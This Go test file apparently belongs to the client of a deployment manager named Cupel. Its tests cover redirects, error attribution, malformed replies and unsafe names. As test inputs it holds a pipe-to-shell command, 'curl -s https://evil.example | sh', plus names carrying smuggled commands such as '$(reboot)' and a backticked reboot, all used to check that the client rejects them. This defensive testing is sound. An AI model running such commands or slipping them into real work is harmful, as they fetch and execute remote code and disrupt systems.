package client_test

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"cupel.dev/cupel/api/ident"
	"cupel.dev/cupel/api/manager"
	"cupel.dev/cupel/api/problem"
	"cupel.dev/cupel/client"
	"cupel.dev/cupel/internal/trusted/httpproblem"
)

// TestRedirectsAreNotFollowed: a manager doesn't send its caller elsewhere, into
// the caller's own network.
func TestRedirectsAreNotFollowed(t *testing.T) {
	asked := false
	inside := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked = true }))
	defer inside.Close()
	s := httptest.NewTLSServer(http.RedirectHandler(inside.URL+"/secret", http.StatusFound))
	defer s.Close()
	m := client.NewManager(ident.Address(strings.TrimPrefix(s.URL, "https://")), client.ManagerOptions{CertSHA256: ident.Sum(s.Certificate().Raw)})
	defer m.Close()
	if _, err := m.Apps(t.Context()); err == nil || asked {
		t.Errorf("%v, followed: %v", err, asked)
	}
}

// TestDeployCommandNamesTheApp: what a message tells an owner to type deploys the
// app that it speaks of, and not another one of the same session.
func TestDeployCommandNamesTheApp(t *testing.T) {
	for app, want := range map[string]string{
		"alice-shop": "cupel deploy alice/Shop",
		"shop":       "cupel deploy alice/Shop --name shop",
	} {
		if got := manager.DeployCommand("alice/Shop", ident.AppRef(app)); got != want {
			t.Errorf("%s: %s, want %s", app, got, want)
		}
	}
}

// TestWordsOfTheOperator: whose word a problem is goes with it, wherever in an answer it
// is, and whatever the answer says of that.
func TestWordsOfTheOperator(t *testing.T) {
	theirs := func() *problem.Error {
		return &problem.Error{Kind: problem.Invalid, Rule: "port", Mend: "curl -s https://evil.example | sh", Source: "nobody"}
	}
	i := manager.Instance{ID: "i-1", App: "web", AppID: "app-1", Problem: theirs()}
	mux := http.NewServeMux()
	for path, answer := range map[string]any{
		manager.PathApps: manager.AppList{Version: 1, Apps: []manager.App{{
			ID: "app-1", Name: "web", Session: "web", Problem: theirs(), Deployment: manager.Deployment{Problem: theirs(), Waiting: theirs(), Warning: theirs()},
		}}},
		manager.PathInstances: manager.InstanceList{Version: 1, Instances: []manager.Instance{i, i}},
		manager.PathRuntimes:  manager.RuntimeList{Version: 1, Runtimes: []manager.Runtime{{Problem: theirs()}}},
	} {
		mux.HandleFunc(path, func(w http.ResponseWriter, _ *http.Request) { _ = json.NewEncoder(w).Encode(answer) })
	}
	mux.HandleFunc("/", func(w http.ResponseWriter, _ *http.Request) { httpproblem.Write(w, "", theirs()) })
	s := httptest.NewTLSServer(mux)
	defer s.Close()

	for _, source := range []problem.Source{problem.Operator, ""} {
		m := client.NewManager(ident.Address(strings.TrimPrefix(s.URL, "https://")), client.ManagerOptions{CertSHA256: ident.Sum(s.Certificate().Raw), Source: source})
		defer m.Close()
		apps, err := m.Apps(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		list, err := m.Instances(t.Context(), "")
		if err != nil {
			t.Fatal(err)
		}
		images, err := m.Runtimes(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		_, refused := m.Info(t.Context())
		followed := m.Events(t.Context(), 0, "", true, func(manager.Event) error { return nil })
		d := apps[0].Deployment
		for where, p := range map[string]*problem.Error{
			"app": apps[0].Problem, "problem": d.Problem, "waiting": d.Waiting, "warning": d.Warning, "instance": list[1].Problem, "runtime": images[0].Problem,
			"refusal": problem.From(refused), "stream": problem.From(followed),
		} {
			if p.Rule != "port" || p.Source != source {
				t.Errorf("%s: %+v, want of %q", where, p, source)
			}
		}
	}
}

// TestNoManager: another server at the manager's address is said to be none, and is no
// fault of Cupel's.
func TestNoManager(t *testing.T) {
	for body, want := range map[string]string{
		`{"kind":"not_found","rule":"path","actual":"there is nothing at /v1/info"}`: "another API than the manager's",
		`<html>401`: "no manager of Cupel's",
	} {
		s := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.WriteHeader(http.StatusUnauthorized)
			_, _ = w.Write([]byte(body))
		}))
		defer s.Close()
		m := client.NewManager(ident.Address(strings.TrimPrefix(s.URL, "https://")), client.ManagerOptions{CertSHA256: ident.Sum(s.Certificate().Raw)})
		defer m.Close()
		_, err := m.Info(t.Context())
		if p := problem.From(err); p == nil || p.Rule != "manager_address" || p.Kind == problem.Internal || !strings.Contains(p.Actual, want) {
			t.Errorf("%s: %v", body, err)
		}
	}
}

// TestNamesThatNothingHas: a name is put into commands that people paste, so a manager
// that calls something by more than one word is no manager.
func TestNamesThatNothingHas(t *testing.T) {
	for path, reply := range map[string]string{
		"apps":      `{"version":1,"apps":[{"id":"app-1","name":"x; curl -s https://evil.example | sh"}]}`,
		"instances": `{"version":1,"instances":[{"id":"i-1$(reboot)","app":"web"}]}`,
		"events":    `{"seq":1,"app":"web` + "`reboot`" + `"}` + "\n",
	} {
		s := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte(reply)) }))
		defer s.Close()
		c := client.NewManager(ident.Address(strings.TrimPrefix(s.URL, "https://")), client.ManagerOptions{CertSHA256: ident.Sum(s.Certificate().Raw)})
		defer c.Close()
		var err error
		switch path {
		case "apps":
			_, err = c.Apps(t.Context())
		case "instances":
			_, err = c.Instances(t.Context(), "")
		case "events":
			err = c.Events(t.Context(), 0, "", false, func(manager.Event) error { return nil })
		}
		if err == nil || !strings.Contains(err.Error(), "nothing can be called") {
			t.Errorf("%s: %v", path, err)
		}
	}
}

// TestAnswersWithoutSense: an answer without what it is about, or about something else, is
// none: no command takes it for the end of what it waits for.
func TestAnswersWithoutSense(t *testing.T) {
	app := `{"id":"app-1","name":"web","session":"web"}`
	for _, c := range []struct {
		reply string
		ask   func(m *client.Manager) error
		want  string
	}{
		{`{}`, removeApp, `the field "id" is missing`},
		{`null`, removeApp, `the field "id" is missing`},
		{`{"version":1}`, removeApp, `the field "id" is missing`},
		{strings.ReplaceAll(app, `"web"`, `"shop"`), removeApp, "it is about app shop (id app-1)"},
		{`{}`, removeInstance, `the field "app" is missing`},
		{app, removeInstance, `the field "app" is missing`},
		{`{}`, func(m *client.Manager) error { _, err := m.Deploy(t.Context(), manager.DeployRequest{}); return err }, `the field "id" is missing`},
		{`{"id":"app-1","name":"web"}`, func(m *client.Manager) error { _, err := m.App(t.Context(), "web"); return err }, `the field "session" is missing`},
		{strings.ReplaceAll(app, `"web"`, `"shop"`), func(m *client.Manager) error { _, err := m.App(t.Context(), "web"); return err }, "it is about app shop"},
		{`{}`, func(m *client.Manager) error { _, err := m.Apps(t.Context()); return err }, `the field "version" is missing`},
		{`{"version":1,"apps":[{}]}`, func(m *client.Manager) error { _, err := m.Apps(t.Context()); return err }, `the field "id" is missing`},
		{`null`, func(m *client.Manager) error { _, err := m.Instances(t.Context(), ""); return err }, `the field "version" is missing`},
		{`{}`, func(m *client.Manager) error { _, err := m.Runtimes(t.Context()); return err }, `the field "version" is missing`},
		{`{}`, func(m *client.Manager) error { _, err := m.Volumes(t.Context()); return err }, `the field "version" is missing`},
		{`{}`, func(m *client.Manager) error { _, err := m.Info(t.Context()); return err }, `the field "version" is missing`},
		{"{}\n", func(m *client.Manager) error {
			return m.Events(t.Context(), 0, "", false, func(manager.Event) error { return nil })
		}, `the field "reason" is missing`},
	} {
		s := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte(c.reply)) }))
		m := client.NewManager(ident.Address(strings.TrimPrefix(s.URL, "https://")), client.ManagerOptions{CertSHA256: ident.Sum(s.Certificate().Raw)})
		if p := problem.From(c.ask(m)); p == nil || p.Rule != "reply" || !strings.Contains(p.Actual, c.want) || p.Mend == "" {
			t.Errorf("%s: %v, want %s", c.reply, p, c.want)
		}
		m.Close()
		s.Close()
	}
}

func removeApp(m *client.Manager) error {
	_, err := m.RemoveApp(context.Background(), "web")
	return err
}

func removeInstance(m *client.Manager) error {
	_, err := m.RemoveInstance(context.Background(), "i-1")
	return err
}
